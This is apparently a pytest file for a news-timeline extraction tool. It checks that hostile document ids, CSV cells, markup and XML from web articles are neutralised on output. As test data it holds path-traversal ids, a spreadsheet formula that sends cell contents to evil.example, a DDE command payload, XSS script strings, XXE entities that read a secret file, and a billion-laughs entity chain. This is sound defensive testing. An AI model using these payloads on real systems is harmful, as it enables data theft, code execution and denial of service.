"""Issue 9, "nothing let in": ids, cells and markup from web articles never act on the reader of our output.

- a document id never chooses where a file lands (``tag --out-dir``, multi-document ``extract --format timeml``);
- a CSV cell never becomes a live spreadsheet formula (unless ``--raw-cells``), and reads back unchanged;
- TimelineJS fields carry no live markup;
- a TimeML input's DOCTYPE, entities and "billion laughs" never reach the TimeML we write.
"""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pytest

from timeline.export import read_table, table_to_string, write_table
from timeline.export.csv_json import to_csv_string
from timeline.export.names import INDEX_NAME, plan_names, safe_name
from timeline.export.timelinejs import to_timelinejs
from timeline.export.timeml import write_timeml
from timeline.readers.timeml import read_timeml
from timeline.table import build_table

HOSTILE_IDS = [
    "../../victim", "../../victim.tml", "/abs/path/x", "a/b\\c", "..", ".", "", ".hidden", "-rf", "CON", "nul.tml",
    "com1", "LPT9.txt", "x\x00y", "tab\there", "new\nline", "x" * 400, "é" * 300, "Report", "report", "dup", "dup",
    "\ud800lone", "a..b", "names.csv", "names",
]
SAFE_NAME = re.compile(r"^[A-Za-z0-9][A-Za-z0-9._-]*\.tml$")
WINDOWS_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"{p}{n}" for p in ("COM", "LPT") for n in range(10))}
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0", "'already quoted"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MARKUP = ['<img src=x onerror=alert(1)>', '"><script>alert(document.cookie)</script>', "<svg/onload=alert(1)>",
          "' onmouseover='alert(1)", '<a href="javascript:alert(1)">x</a>', "</script><script>alert(1)</script>"]


def run_cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    """The real `timeline` command, in a subprocess (the issue is about what the CLI does to the disk)."""
    return subprocess.run([sys.executable, "-m", "timeline.cli", *args], cwd=cwd, capture_output=True, text=True,
                          timeout=300)


def write_jsonl(path: Path, docs: list[dict]) -> Path:
    path.write_text("".join(json.dumps(d) + "\n" for d in docs), encoding="utf-8")
    return path


def tree(root: Path) -> set[Path]:
    return {p for p in root.rglob("*")}


# --- 1. document ids become file names -----------------------------------------------------------------------

@pytest.mark.parametrize("doc_id", HOSTILE_IDS)
def test_safe_name_is_one_plain_component(doc_id):
    name = safe_name(doc_id)
    assert SAFE_NAME.match(name), name
    assert ".." not in name and len(name.encode()) <= 100
    assert name.split(".", 1)[0].upper() not in WINDOWS_RESERVED
    assert safe_name(doc_id) == name  # the same id always lands in the same file


def test_plan_names_distinct_and_deterministic():
    names = plan_names(HOSTILE_IDS)
    assert len({n.lower() for n in names}) == len(HOSTILE_IDS)  # distinct even on a case-insensitive disk
    assert INDEX_NAME not in names
    assert plan_names(HOSTILE_IDS) == names
    assert plan_names(["wsj_0006", "ABC19980108.1830.0711.tml", "article.txt"]) == [
        "wsj_0006.tml", "ABC19980108.1830.0711.tml", "article.tml"]  # readable ids keep their readable names


def _hostile_docs(tmp_path: Path) -> tuple[list[dict], Path]:
    victim = tmp_path / "victim.tml"
    victim.write_text("precious", encoding="utf-8")
    ids = ["../victim", "../victim.tml", str(victim), str(tmp_path / "made" / "dir" / "x"), "x\x00y", "CON", ".hidden",
           "dup", "dup", "Dup", "y" * 300]
    docs = [{"id": i, "text": f"Officials met on Tuesday, story {n}.", "pub_date": "2023-09-05"}
            for n, i in enumerate(ids)]
    return docs, victim


def _check_out_dir(tmp_path: Path, out: Path, docs: list[dict], victim: Path, before: set[Path]) -> None:
    assert victim.read_text(encoding="utf-8") == "precious"
    assert not (tmp_path / "made").exists()
    created = tree(tmp_path) - before
    assert created and all(out in p.parents or p == out for p in created), sorted(map(str, created))
    tml = sorted(out.glob("*.tml"))
    assert len(tml) == len(docs)  # one file each: nothing lost to a clash
    with open(out / INDEX_NAME, encoding="utf-8", newline="") as fh:
        index = list(csv.DictReader(fh))
    assert [r["file"] for r in index] and {r["file"] for r in index} == {p.name for p in tml}
    assert [r["doc_id"] for r in index][:2] == ["../victim", "../victim.tml"]
    story = {p.name: re.search(r"story (\d+)", p.read_text(encoding="utf-8")).group(1) for p in tml}
    assert sorted(story.values(), key=int) == [str(n) for n in range(len(docs))]


def test_tag_out_dir_keeps_hostile_ids_inside(tmp_path):
    docs, victim = _hostile_docs(tmp_path)
    src = write_jsonl(tmp_path / "in.jsonl", docs)
    before = tree(tmp_path)
    r = run_cli("tag", str(src), "--format", "timeml", "--out-dir", "out", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    _check_out_dir(tmp_path, tmp_path / "out", docs, victim, before)


def test_extract_timeml_keeps_hostile_ids_inside(tmp_path):
    docs, victim = _hostile_docs(tmp_path)
    src = write_jsonl(tmp_path / "in.jsonl", docs)
    before = tree(tmp_path)
    r = run_cli("extract", str(src), "--format", "timeml", "-o", "out", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert "Traceback" not in r.stderr
    _check_out_dir(tmp_path, tmp_path / "out", docs, victim, before)


def test_tag_tml_inputs_keep_their_names(tmp_path):
    tml = """<?xml version="1.0" ?>
<TimeML>
<DOCID>d</DOCID>
<DCT><TIMEX3 tid="t0" type="DATE" value="2023-09-05" temporalFunction="false" functionInDocument="CREATION_TIME">\
2023-09-05</TIMEX3></DCT>
<TEXT>They met on Tuesday in {where}.</TEXT>
</TimeML>
"""
    for sub in ("a", "b"):
        (tmp_path / sub).mkdir()
        (tmp_path / sub / "wsj_0006.tml").write_text(tml.format(where=sub), encoding="utf-8")
    (tmp_path / "a" / ".hidden.tml").write_text(tml.format(where="hidden"), encoding="utf-8")
    r = run_cli("tag", "a/wsj_0006.tml", "b/wsj_0006.tml", "a/.hidden.tml", "--format", "timeml", "--out-dir", "out",
                cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    out = tmp_path / "out"
    assert "in a." in (out / "wsj_0006.tml").read_text(encoding="utf-8")  # TempEval-3 needs the same name
    names = sorted(p.name for p in out.glob("*.tml"))
    assert len(names) == 3 and not any(n.startswith(".") for n in names)
    texts = " ".join((out / n).read_text(encoding="utf-8") for n in names)
    assert all(f"in {w}." in texts for w in ("a", "b", "hidden"))  # the second wsj_0006.tml did not replace the first
    assert "a/.hidden.tml" in (out / INDEX_NAME).read_text(encoding="utf-8")


# --- 2. CSV formula injection --------------------------------------------------------------------------------

def _row(**over) -> dict:
    base = {"doc_id": "d", "pub_date": "2023-09-05", "dct_source": "cli", "sentence": "They met on Tuesday.",
            "event": "They met", "trigger": "met", "trigger_lemma": "meet", "subject": "They", "object": None,
            "actors": "Kim; Putin", "modality": "", "timex_text": "Tuesday", "timex_type": "DATE",
            "timex_value": "2023-09-05", "timex_mod": None, "char_start": 12, "char_end": 19,
            "start": "2023-09-05", "end": "2023-09-06", "granularity": "day", "fuzzy": False, "rule": "weekday",
            "unresolved": False, "anchor": "dct:2023-09-05", "trigger_start": 5, "trigger_end": 8, "error": None}
    return {**base, **over}


@pytest.fixture
def formula_table() -> pd.DataFrame:
    text_cols = ("doc_id", "sentence", "event", "trigger", "subject", "object", "actors", "timex_text", "anchor")
    return build_table([_row(**{c: f for c in text_cols}, char_start=n) for n, f in enumerate(FORMULAS)])


def _cells(csv_text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(csv_text)) for c in row]


def test_csv_cells_are_spreadsheet_safe_and_round_trip(tmp_path, formula_table):
    text = to_csv_string(formula_table)
    assert not [c for c in _cells(text) if c.startswith(TRIGGERS)]
    path = tmp_path / "t.csv"
    write_table(formula_table, path, "csv")
    pd.testing.assert_frame_equal(read_table(path), formula_table)  # the quote is undone on reading
    assert table_to_string(formula_table, "csv") == text
    raw = table_to_string(formula_table, "csv", raw_cells=True)
    assert FORMULAS[0].replace('"', '""') in raw  # --raw-cells: as it was
    # numbers and dates are not text: untouched
    assert "2023-09-05" in _cells(text) and "0" in _cells(text)


def test_json_and_parquet_keep_raw_values(tmp_path, formula_table):
    data = json.loads(table_to_string(formula_table, "json"))
    assert {r["doc_id"] for r in data} == set(FORMULAS)
    write_table(formula_table, tmp_path / "t.parquet", "parquet")
    assert set(read_table(tmp_path / "t.parquet")["doc_id"]) == set(FORMULAS)


def test_cli_csv_formulas_quoted_unless_raw_cells(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    src = write_jsonl(tmp_path / "in.jsonl", [{"id": formula, "text": "Officials met on Tuesday.",
                                               "pub_date": "2023-09-05"}])
    for argv in (["extract", str(src)], ["tag", str(src), "--format", "csv"]):
        safe = run_cli(*argv, cwd=tmp_path)
        assert safe.returncode == 0, safe.stderr
        cells = _cells(safe.stdout)
        assert "'" + formula in cells and not [c for c in cells if c.startswith(TRIGGERS)], argv
        raw = run_cli(*argv, "--raw-cells", cwd=tmp_path)
        assert raw.returncode == 0, raw.stderr
        assert formula in _cells(raw.stdout), argv
    r = run_cli("extract", str(src), "-o", "t.csv", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert read_table(tmp_path / "t.csv")["doc_id"].tolist() == [formula]


# --- 3. TimelineJS: no live markup ---------------------------------------------------------------------------

def _strings(obj):
    if isinstance(obj, str):
        yield obj
    elif isinstance(obj, dict):
        for k, v in obj.items():
            yield k
            yield from _strings(v)
    elif isinstance(obj, list):
        for v in obj:
            yield from _strings(v)


@pytest.mark.parametrize("payload", MARKUP)
def test_timelinejs_escapes_every_rendered_field(payload):
    cols = ("doc_id", "sentence", "event", "timex_text", "modality", "actors")
    df = build_table([_row(**{c: payload for c in cols}), _row(doc_id=payload, event=None, sentence=payload),
                      _row(doc_id=payload + "2", event=None, sentence=None, timex_text=payload)])
    out = to_timelinejs(df, title=payload)
    strings = list(_strings(out))
    assert payload in " ".join(s.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"')
                               .replace("&#x27;", "'").replace("&amp;", "&") for s in strings)  # shown, not dropped
    assert not [s for s in strings if "<" in s or '"' in s or "'" in s], strings
    ids = [e["unique_id"] for e in out["events"]]
    assert len(set(ids)) == len(ids) and all(re.fullmatch(r"[A-Za-z0-9_-]+", i) for i in ids)
    assert out["events"][0]["group"] and out["events"][0]["display_date"]


def test_cli_timelinejs_from_html_with_escaped_script(tmp_path):
    # the HTML reader unescapes &lt;script&gt; into text: the export must not turn it back into live markup
    (tmp_path / "page.html").write_text(
        "<html><head><title>t</title></head><body><article><p>&lt;script&gt;alert(1)&lt;/script&gt; Officials "
        "from &lt;img src=x onerror=alert(2)&gt; met on Tuesday, Sept. 5, 2023, to discuss the plan. They said the "
        "talks would resume next week and that progress had been made.</p></article></body></html>",
        encoding="utf-8")
    src = write_jsonl(tmp_path / "in.jsonl", [{"id": m, "text": f"{m} Officials met on Tuesday.",
                                               "pub_date": "2023-09-05"} for m in MARKUP])
    r = run_cli("extract", "page.html", str(src), "--pub-date", "2023-09-05", "--format", "timelinejs",
                "--title", MARKUP[0], "-o", "tl.json", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    data = json.loads((tmp_path / "tl.json").read_text(encoding="utf-8"))
    strings = list(_strings(data))
    assert len(data["events"]) >= len(MARKUP)
    assert not [s for s in strings if "<" in s or '"' in s], strings


# --- 4. TimeML: no DOCTYPE, no entity expansion --------------------------------------------------------------

TML_BODY = """<TimeML>
<DOCID>{docid}</DOCID>
<DCT><TIMEX3 tid="t0" type="DATE" value="2023-09-05" temporalFunction="false" functionInDocument="CREATION_TIME">\
2023-09-05</TIMEX3></DCT>
<TEXT>Officials met on Tuesday. {ref}</TEXT>
</TimeML>
"""
# lol9 would expand to 10^9 "lol"s
LAUGHS = "\n".join(['  <!ENTITY lol0 "lol">'] + [f'  <!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)])


def _attacks(secret: Path) -> dict[str, str]:
    url = secret.as_uri()
    return {
        "xxe": (f'<!DOCTYPE TimeML [\n  <!ENTITY xxe SYSTEM "{url}">\n]>\n'
                + TML_BODY.format(docid="&xxe;", ref="&xxe;")),
        "param": (f'<!DOCTYPE TimeML [\n  <!ENTITY % p SYSTEM "{url}">\n  %p;\n  <!ENTITY % q "<!ENTITY leak \'x\'>">'
                  "\n  %q;\n]>\n" + TML_BODY.format(docid="d", ref="&leak;")),
        "laughs": f"<!DOCTYPE TimeML [\n{LAUGHS}\n]>\n" + TML_BODY.format(docid="&lol9;", ref="&lol9; &lol9;"),
        "external_dtd": f'<!DOCTYPE TimeML SYSTEM "{url}">\n' + TML_BODY.format(docid="d", ref="&nbsp;"),
        "public_dtd": ('<!DOCTYPE TimeML PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://127.0.0.1:9/x.dtd" [ <!-- ]> " -->'
                       ' <!ENTITY e SYSTEM "' + url + '"> ]>\n' + TML_BODY.format(docid="d", ref="&e;")),
    }


def _check_harmless(xml: str, source: str) -> None:
    assert "SECRET-CONTENT" not in xml
    assert not re.search(r"<!(DOCTYPE|ENTITY)|SYSTEM|PUBLIC", xml)
    assert len(xml) < 2 * len(source)  # nothing expanded
    root = ET.fromstring(xml.encode("utf-8"))  # well-formed, with no declarations left to expand
    assert "Tuesday" in "".join(root.find("TEXT").itertext())


def test_timeml_writer_drops_doctype_and_entities(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-CONTENT", encoding="utf-8")
    for name, source in _attacks(secret).items():
        path = tmp_path / f"{name}.tml"
        path.write_text('<?xml version="1.0" ?>\n' + source, encoding="utf-8")
        started = time.monotonic()
        doc = read_timeml(path)
        xml = write_timeml(doc, [])
        assert time.monotonic() - started < 5, name
        _check_harmless(xml, path.read_text(encoding="utf-8"))
        back = ET.fromstring(xml.encode("utf-8")).find("TEXT")
        assert "".join(back.itertext()) == doc.text, name  # the entity reference stays the literal text it was read as


def test_cli_tag_xml_attacks_are_harmless(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("SECRET-CONTENT", encoding="utf-8")
    attacks = _attacks(secret)
    for name, source in attacks.items():
        (tmp_path / f"{name}.tml").write_text('<?xml version="1.0" ?>\n' + source, encoding="utf-8")
    r = run_cli("tag", *(f"{n}.tml" for n in attacks), "--format", "timeml", "--out-dir", "out", cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert not (tmp_path / "out" / INDEX_NAME).exists()  # every input kept its own (safe) name: no index needed
    for name in attacks:
        xml = (tmp_path / "out" / f"{name}.tml").read_text(encoding="utf-8")
        _check_harmless(xml, (tmp_path / f"{name}.tml").read_text(encoding="utf-8"))
        assert '<TIMEX3 tid="t1" type="DATE" value="2023-09-05">Tuesday</TIMEX3>' in xml, name


def test_timeml_from_text_with_characters_xml_cannot_hold():
    from timeline.document import Document
    from timeline.temporal.timex import Timex

    text = "Bad\x00bytes \ud800 then on Tuesday."
    start = text.index("Tuesday")
    doc = Document(text=text, doc_id="id\x00\ud800<x>")
    xml = write_timeml(doc, [Timex(text="Tuesday", start=start, end=start + 7, type="DATE", value="2023-09-05")])
    root = ET.fromstring(xml.encode("utf-8"))  # well-formed: NUL and the lone surrogate became U+FFFD
    assert root.find("TEXT").find("TIMEX3").text == "Tuesday"
    assert "".join(root.find("TEXT").itertext()) == text.replace("\x00", "\ufffd").replace("\ud800", "\ufffd")
